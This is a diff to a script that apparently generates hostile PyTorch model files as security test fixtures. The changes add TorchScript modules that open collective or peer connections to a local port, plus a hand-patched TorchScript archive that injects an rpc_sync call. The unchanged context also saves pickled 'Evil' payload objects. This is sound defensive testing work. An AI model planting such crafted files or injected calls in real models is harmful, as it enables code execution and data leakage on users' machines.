@@ -1,4 +1,4 @@
-"""Write hostile PyTorch files: FOLDER CANARY SECRET."""
+"""Write hostile PyTorch files: FOLDER CANARY SECRET PORT."""
 
 import io
 import json
@@ -12,9 +12,10 @@ from typing import Final
 import payload
 import torch
 
-folder, canary, secret = (Path(argument) for argument in sys.argv[1:])
+folder, canary, secret = (Path(argument) for argument in sys.argv[1:4])
+port = int(sys.argv[4])
 warnings.simplefilter("ignore")
-CODE = payload.source(canary, secret)
+CODE = payload.source(canary, secret, port)
 TENSOR = "(lambda torch: torch.nn.Parameter(torch.full((1,), 2.0)))(__import__('torch'))"
 LENGTH = secret.stat().st_size
 
@@ -51,6 +52,36 @@ class Reader(torch.nn.Module):
         return torch.from_file(self.path, False, self.length, dtype=torch.uint8).float()[None]
 
 
+class GroupTalker(torch.nn.Module):
+    """Names an address where a group of processes is expected."""
+
+    address: Final[str] = f"127.0.0.1:{port}"
+
+    def forward(self, x):
+        return torch.ops._c10d_functional.all_reduce(x, "sum", self.address)
+
+
+class PeerTalker(torch.nn.Module):
+    """Sends to a peer, in a group of its own making."""
+
+    def forward(self, x):
+        group = torch.classes.c10d.ProcessGroup(0, 2)
+        torch.ops.c10d.send([x], group, 1, 0).wait()
+        return x
+
+
+@torch.jit.script
+def remote(x):
+    return x
+
+
+class CallTalker(torch.nn.Module):
+    """Is to call the function in another process, once its code is changed."""
+
+    def forward(self, x):
+        return remote(x)
+
+
 class Double(torch.nn.Module):
     def __init__(self):
         super().__init__()
@@ -69,6 +100,20 @@ class Evil:
 
 torch.jit.script(Writer()).save(str(folder / "writer.pt"))
 torch.jit.script(Reader()).save(str(folder / "reader.pt"))
+torch.jit.script(GroupTalker()).save(str(folder / "group.pt"))
+torch.jit.script(PeerTalker()).save(str(folder / "peer.pt"))
+torch.jit.script(CallTalker()).save(str(folder / "calling.pt"))
+with (
+    zipfile.ZipFile(folder / "calling.pt") as plain,
+    zipfile.ZipFile(folder / "call.pt", "w") as evil,
+):
+    # torch.jit leaves the arguments of such a call out of the file, so it is written by hand.
+    call = f'_0 = ops.prim.rpc_sync("127.0.0.1:{port}", "__torch__.remote", (x,))'
+    for name in plain.namelist():
+        content = plain.read(name).replace(
+            b"return __torch__.remote(", f"{call}\n    return __torch__.remote(".encode()
+        )
+        evil.writestr(name, content)
 torch.jit.script(Double()).save(str(folder / "double.pt"))
 torch.save({"factor": Evil()}, folder / "evil_state.pt")
 (folder / "evil_legacy.pt").write_bytes(pickle.dumps({"factor": Evil()}))
